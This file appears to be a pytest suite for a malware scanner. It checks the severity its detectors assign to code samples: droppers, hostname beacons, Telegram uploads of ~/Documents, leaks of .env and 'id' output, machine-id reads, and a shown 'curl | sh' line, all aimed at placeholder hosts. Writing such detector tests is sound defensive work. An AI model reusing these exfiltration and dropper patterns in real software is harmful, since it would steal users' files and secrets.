"""What honest code does that looks like harm weighs little, and the harm that looks like it does not."""

import pytest
from weighed import BY_ID, program_of, worst

from ostiary.core.finding import Hit
from ostiary.core.scale import Severity

BY_NAME = """
import os, subprocess
from urllib.request import urlopen
def run(cmd):
    return subprocess.run(cmd, shell=True)
def install(arch):
    with urlopen({url!r}.format(arch=arch)) as answer, open({path!r}, "wb") as file:
        file.write(answer.read())
    os.environ["PATH"] += os.pathsep + os.path.dirname({path!r})
def setup(prefix):
    install({arch})
    run("starter --prefix " + prefix)
def other(prefix):
    run("set -e; export PATH=$PATH:$(pwd)/other; other create --quiet --prefix " + prefix)
"""


@pytest.mark.parametrize(
    ("url", "path", "severity"),
    [
        ("https://a.example.invalid/linux-64/latest", "bin/starter", Severity.HIGH),
        ("https://a.example.invalid/starter", "bin/starter", Severity.HIGH),
        ("https://a.example.invalid/latest", "bin/starter", Severity.CRITICAL),
        ("http://a.example.invalid/linux-64/latest", "bin/starter", Severity.CRITICAL),
        ("https://203.0.113.9/linux-64/latest", "bin/starter", Severity.CRITICAL),
    ],
)
def test_what_one_helper_starts_is_not_told_by_the_text_of_another_command(
    url: str, path: str, severity: Severity
) -> None:
    text = BY_NAME.format(url=url, path=path, arch="'linux'")
    assert worst("dropper", text) is severity


def test_a_program_that_did_not_come_from_there_is_only_handed_a_word() -> None:
    text = BY_NAME.format(url="https://a.example.invalid/latest", path="bin/data.txt", arch="''")
    assert worst("dropper", text) is None


PLACED = """
import os, json, requests, socket
HERE = os.path.join(os.getcwd(), "settings.json")
def load():
    with open(HERE) as file:
        return json.load(file)
def push():
    requests.post("https://a.example.invalid/up", json={sent})
"""


def test_where_a_file_lies_is_not_what_it_holds() -> None:
    assert worst("host-beacon", PLACED.format(sent='{"project": load()["id"]}')) is None
    assert worst("host-beacon", PLACED.format(sent='{"project": HERE}')) is Severity.MEDIUM


def test_what_was_written_into_a_file_is_what_it_holds() -> None:
    text = """
import requests, socket
def push():
    with open("a.txt", "w") as file:
        file.write(socket.gethostname())
    with open("a.txt") as file:
        requests.post("https://a.example.invalid/up", data=file.read())
"""
    assert worst("host-beacon", text) is Severity.MEDIUM


def test_a_path_on_another_machine_goes_there() -> None:
    text = r"""
import socket
def push():
    with open("\\\\drop.example.invalid\\s\\" + socket.gethostname(), "w") as file:
        file.write("x")
"""
    assert worst("host-beacon", text) is Severity.MEDIUM


MESSENGER = """
import os, requests
class NotifyChat:
    def __init__(self, token):
        self.token = token
    def attach(self, path):
        url = "https://api.telegram.org/bot" + self.token + "/sendDocument"
        with open(path, "rb") as file:
            requests.post(url, files={"document": file})
"""
FOUND = """
def gather(token):
    for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
        for name in names:
            NotifyChat(token).attach(os.path.join(folder, name))
"""


def test_a_client_of_a_messenger_attaches_what_it_is_told_to() -> None:
    assert worst("exfiltration-address", MESSENGER) is Severity.LOW
    assert worst("exfiltration-address", MESSENGER + FOUND) is Severity.CRITICAL
    own = MESSENGER.replace("self.token = token", 'self.token = "1234567:" + "A" * 35')
    assert worst("exfiltration-address", own) is Severity.CRITICAL


PUSHED = """
import requests, platform, subprocess
class Push:
    def __init__(self, token):
        self.token = token
    def send(self, text):
        requests.post("https://api.pushover.net/1/messages.json", data={sent})
"""


def test_the_path_of_a_service_says_not_whose_hook_it_is() -> None:
    plain = PUSHED.format(sent='{"token": self.token, "message": text}')
    assert worst("exfiltration-address", plain) is Severity.LOW
    loot = PUSHED.format(sent='{"token": self.token, "message": subprocess.getoutput("id")}')
    assert worst("exfiltration-address", loot) is Severity.HIGH


KEYED = """
import requests
class Notify{name}:
    def __init__(self, privatekey):
        self.privatekey = privatekey
    def send(self, text):
        requests.post("https://www.{host}.example/api", data={{"k": self.privatekey, "m": text}})
"""


@pytest.mark.parametrize(
    ("name", "host", "path", "imports", "severity"),
    [
        ("PushSample", "pushsample", "sample/pushsample.py", "", Severity.LOW),
        ("PushSample", "collector", "sample/pushsample.py", "", Severity.HIGH),
        ("PushSample", "pushsample", "sample/_part.py", "", Severity.HIGH),
        ("PushSample", "pushsample", "sample/pushsample.py", "import web3", Severity.CRITICAL),
    ],
)
def test_a_service_that_calls_its_token_a_private_key_may_have_it(
    name: str, host: str, path: str, imports: str, severity: Severity
) -> None:
    assert worst("key-sent", imports + KEYED.format(name=name, host=host), path) is severity


MANAGER = """
from urllib.request import urlopen
class Manager:
    def __getitem__(self, name):
        return fetch({address})
def fetch(url):
    return urlopen(url).read()
manager = Manager()
{after}
"""


@pytest.mark.parametrize(
    ("address", "after", "severity"),
    [
        ("name", "", Severity.LOW),
        ("name", 'manager["https://a.example.invalid/"]', Severity.HIGH),
        ("name", 'next(iter([manager]))["https://a.example.invalid/"]', Severity.HIGH),
        ('"https://a.example.invalid/"', "import other; other.each(manager)", Severity.HIGH),
        ('"https://a.example.invalid/?" + name', "", Severity.HIGH),
    ],
)
def test_a_method_behind_an_operator_runs_where_the_operator_stands(
    address: str, after: str, severity: Severity
) -> None:
    text = MANAGER.format(address=address, after=after)
    assert worst("import-network", text, "sample/__init__.py") is severity


SHOWN = 'show("curl -LsSf https://a.example.invalid/setup.sh | sh");\n'


@pytest.mark.parametrize(
    ("form", "path", "text", "severity"),
    [
        ("wheel", "sample/a.js", 'import {show} from "./page.js";\n' + SHOWN, Severity.LOW),
        ("wheel", "sample/a.js", 'const a = require("child_process");\n' + SHOWN, Severity.MEDIUM),
        ("npm", "index.js", 'const show = require("other");\n' + SHOWN, Severity.CRITICAL),
    ],
)
def test_a_page_that_shows_a_command_runs_none(
    form: str, path: str, text: str, severity: Severity
) -> None:
    program = program_of(form, {"sample/__init__.py": "", path: text})
    hits = [hit for hit in BY_ID["attack-command"].run(program) if isinstance(hit, Hit)]
    assert max((hit.severity for hit in hits if hit.severity is not None), default=None) is severity


CLIENT = """
import webbrowser
from other.api import {made}
class Command:
    def __init__(self, key):
        self.client = {made}(api_key=key)
    def create(self):
        with open(".env") as file:
            answer = self.client.create({{"env": file.read()}})
        webbrowser.open("https://a.example.invalid/page/" + {told})
"""


@pytest.mark.parametrize(
    ("made", "told", "severity"),
    [
        ("ServiceClient", 'answer.json()["id"]', None),
        ("ServiceClient", "answer.shown()", Severity.HIGH),
        ("ServiceClient", 'self.client.last("env")', Severity.HIGH),
        ("TestClient", 'answer.json()["env"]', Severity.HIGH),
        ("Holder", 'answer.json()["env"]', Severity.HIGH),
    ],
)
def test_what_a_service_answers_is_not_what_its_client_was_given(
    made: str, told: str, severity: Severity | None
) -> None:
    assert worst("stealer", CLIENT.format(made=made, told=told)) is severity


IDENTIFIED = """
import json, requests, uuid
def send(path):
    with open({path}) as file:
        requests.post("https://a.example.invalid/", json={{"id": uuid.UUID({text}).hex}})
"""


@pytest.mark.parametrize(
    ("path", "text", "severity"),
    [
        ('"settings.json"', 'json.load(file)["id"]', None),
        ('"/etc/machine-id"', "file.read()", Severity.MEDIUM),
        ('"/opt/other/id"', "file.read()", Severity.MEDIUM),
        ("path", "file.read()", Severity.MEDIUM),
        ('"settings.json"', "int=uuid.getnode()", Severity.MEDIUM),
    ],
)
def test_an_identifier_out_of_own_settings_says_nothing_of_the_machine(
    path: str, text: str, severity: Severity | None
) -> None:
    assert worst("host-beacon", IDENTIFIED.format(path=path, text=text)) is severity


def test_files_that_name_the_machine_are_known_by_their_paths() -> None:
    for path in ("/var/lib/dbus/machine-id", "/etc/hostid", "/proc/sys/kernel/random/boot_id"):
        text = IDENTIFIED.format(path=repr(path), text="file.read()").replace("uuid.UUID", "dict")
        assert worst("host-beacon", text) is Severity.MEDIUM
